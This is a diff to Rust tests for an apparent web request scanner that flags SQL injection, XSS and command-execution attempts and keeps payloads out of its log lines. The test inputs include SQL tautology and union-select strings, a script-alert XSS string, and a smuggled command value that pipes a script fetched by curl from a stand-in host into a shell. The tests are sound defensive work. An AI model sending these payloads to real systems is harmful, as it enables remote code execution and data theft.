@@ -86,15 +86,35 @@ fn one_detection_for_each_rule_and_place() {
     let places: Vec<_> = twice.iter().filter(|line| line.starts_with("sqli.tautology")).collect();
     assert_eq!(places.len(), 2, "{twice:?}");
     let many: String = (0..1000).map(|n| format!("p{n}=%27+or+1=1--&")).collect();
-    assert_eq!(found(&format!("/?{many}"), &[]).len(), super::scan::DETECTIONS);
+    let many = found(&format!("/?{many}k=%3Bcurl+http://x.example/s%7Csh"), &[]);
+    assert!(many.iter().any(|line| line.starts_with("rce.")), "what fills one rule hides no other: {many:?}");
+    assert!(many.len() < super::scan::DETECTIONS);
+}
+
+#[test]
+fn long_values_are_told_apart_whole() {
+    let value = |payload: &str| {
+        let rules = RuleSet::builtin();
+        let mut scan = Scan::new();
+        let target = format!("/?a={}{payload}", "x".repeat(2000));
+        let head = Head::new([(":method", "GET"), (":path", target.as_str())].into_iter().collect());
+        read::head(&head, &mut |field| scan.push(&rules, field));
+        scan.detections().first().map(|detection| detection.value.clone())
+    };
+    let one = value("'+union+select+1--");
+    assert!(one.is_some());
+    assert_eq!(one, value("'+union+select+1--"));
+    assert_ne!(one, value("'+union+select+2--"));
 }
 
 #[test]
 fn names_are_places_and_safe_to_print() {
     let line = &found("/?%3Cscript%3Ealert(1)%3C/script%3E=1", &[])[0];
-    assert!(line.starts_with("xss.script query:%3Cscript%3Ealert(1)%3C/script%3E <script>"), "{line}");
+    assert!(line.starts_with("xss.script query:{} <script>"), "a payload in a name stays out of the log: {line}");
     let raw = format!("/?a\n{}=%27+or+1=1--", "b".repeat(200));
-    assert!(found(&raw, &[]).iter().all(|line| !line.contains('\n') && line.len() < 200));
+    let places = found(&raw, &[]);
+    let mut places = places.iter().filter_map(|line| line.split(' ').nth(1));
+    assert!(places.all(|place| !place.contains('\n') && place.len() < 80));
 }
 
 #[test]
